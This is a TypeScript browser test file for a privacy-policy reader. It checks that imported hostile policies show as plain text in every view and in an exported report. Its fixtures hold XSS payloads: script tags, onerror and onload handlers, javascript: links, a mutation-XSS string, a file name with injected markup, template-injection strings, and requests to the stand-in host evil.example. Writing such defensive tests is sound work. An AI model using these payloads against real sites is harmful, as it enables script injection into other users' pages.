// A policy that brings script in every way a web page can: it shows as text, in every view and in what is handed over.
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { PolicyId, TaskId } from '../../main/contract/types.ts';
import { findBrowser, NO_BROWSER } from '../support/browser.ts';
import { launch, openBrowser, type Launched } from '../support/launch.ts';
import { ask } from '../support/page-calls.ts';
import { createTempFolder } from '../support/temp-folder.ts';

const RUN = 'window.intruded = true; document.title = 1; fetch("http://evil.example/")';
const ATTACKS = [
  `<script>${RUN}</script>`,
  `<img src="http://evil.example/pixel.png" onerror='${RUN}'>`,
  `<svg onload='${RUN}'><script>${RUN}</script><foreignObject><iframe srcdoc='<script>parent.intruded=1</script>'></iframe></foreignObject></svg>`,
  `<a href='javascript:${RUN}'>Your choices</a>`,
  `<form action="http://evil.example/" method="post"><input name="q" autofocus onfocus='${RUN}'><button>Send</button></form>`,
  `<style>@import "http://evil.example/x.css"; body { background: url(http://evil.example/y.png) } main { display: none }</style>`,
  `<base href="http://evil.example/"><meta http-equiv="refresh" content="0; url=http://evil.example/">`,
  `<link rel="stylesheet" href="http://evil.example/z.css"><object data="http://evil.example/"></object><embed src="http://evil.example/">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=intruded=1&gt;">`,
];
const WORDS = [
  'We collect your name and your e-mail address when you register.',
  'We share your data with <img src=x onerror=intruded=1> partners & "others".',
  'Write to ${alert(1)} {{constructor.constructor("intruded=1")()}} if you have a complaint.',
];
const toText = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');

/** The same policy with other words in the end, so that there is something to compare. */
const toPage = (more: string): string =>
  `<!doctype html><title><script>${RUN}</script>Notice</title><h1>Privacy notice ${ATTACKS[1]}</h1>\n` +
  [...WORDS, more].map((words, at) => `${ATTACKS[at] ?? ''}<p>${toText(words)}</p>`).join('\n') +
  ATTACKS.slice(WORDS.length + 1).join('\n<p>We keep records for a year.</p>\n');

const NAME = `"><img src=x onerror=intruded=1>.html`;
const files = [
  { name: NAME, text: toPage('We do not sell your data.') },
  { name: 'notice-2.html', text: toPage('We sell your data to brokers.') },
  {
    name: 'notice-3.md',
    text: `# Notice\n\n${ATTACKS.join('\n\n')}\n\n[link](javascript:intruded=1)\n\n${WORDS.join('\n\n')}\n`,
  },
];

describe.skipIf(findBrowser() === null)(`a hostile policy${findBrowser() === null ? ` (${NO_BROWSER})` : ''}`, () => {
  let launched: Launched;
  let page: Page;
  let ids: readonly PolicyId[] = [];
  const dialogs: string[] = [];

  beforeAll(async () => {
    launched = await launch({ corpus: 'empty' });
    page = launched.page;
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const given = files.map(({ name, text }) => ({ name, bytes: new TextEncoder().encode(text) }));
    const { imported, refused } = await ask(page, 'policy.import', { taskId: 'hostile' as TaskId, files: given });
    if (refused.length > 0) throw new Error(JSON.stringify(refused));
    ids = imported.map(({ id }) => id);
  });
  afterAll(() => launched.close());

  const intrusion = async (): Promise<unknown> =>
    page.evaluate(() => ({
      ran: 'intruded' in window,
      brought: document.querySelectorAll(
        'main :is(script, iframe, object, embed, form[action], base, link, style, svg[onload], [onerror], [onload], a[href^="javascript"])',
      ).length,
    }));

  test.for([
    ['library', (): string => '#/library', 'Library'],
    [
      'reader',
      (): string => `#/read/${ids[0]}`,
      'We share your data with <img src=x onerror=intruded=1> partners & "others".',
    ],
    ['reader of Markdown', (): string => `#/read/${ids[2]}`, '{{constructor.constructor("intruded=1")()}}'],
    ['comparison', (): string => `#/compare?policies=${ids.slice(0, 2).join(',')}`, 'Sale or rent'],
    ['search', (): string => '#/find?q=constructor', '{{constructor.constructor("intruded=1")()}}'],
  ] as const)('shows as text in the %s', async ([, toAddress, words]) => {
    await page.goto(`${launched.serving.origin}/${toAddress()}`);
    await page.reload();
    await page.getByText(words, { exact: false }).first().waitFor();
    expect(await intrusion()).toEqual({ ran: false, brought: 0 });
    expect(page.url().startsWith(launched.serving.origin)).toBe(true);
  });

  test('is quoted, not run, by the report that is handed over', async () => {
    const { bytes } = await ask(page, 'report.write', { policyIds: ids.slice(0, 2), format: 'html' });
    const file = path.join(createTempFolder(), 'report.html');
    await writeFile(file, bytes);
    const browser = await openBrowser();
    const reader = await browser.newPage();
    const asked: string[] = [];
    reader.on('request', (request) => void asked.push(request.url()));
    await reader.goto(pathToFileURL(file).href);
    await reader.getByText('onerror=intruded=1').first().waitFor();
    expect(await reader.evaluate(() => 'intruded' in window)).toBe(false);
    expect(asked).toEqual([pathToFileURL(file).href]);
    await browser.close();
  });

  test('has asked nothing of the network and opened nothing', () => {
    expect(launched.foreignRequests).toEqual([]);
    expect(launched.problems).toEqual([]);
    expect(dialogs).toEqual([]);
  });
});
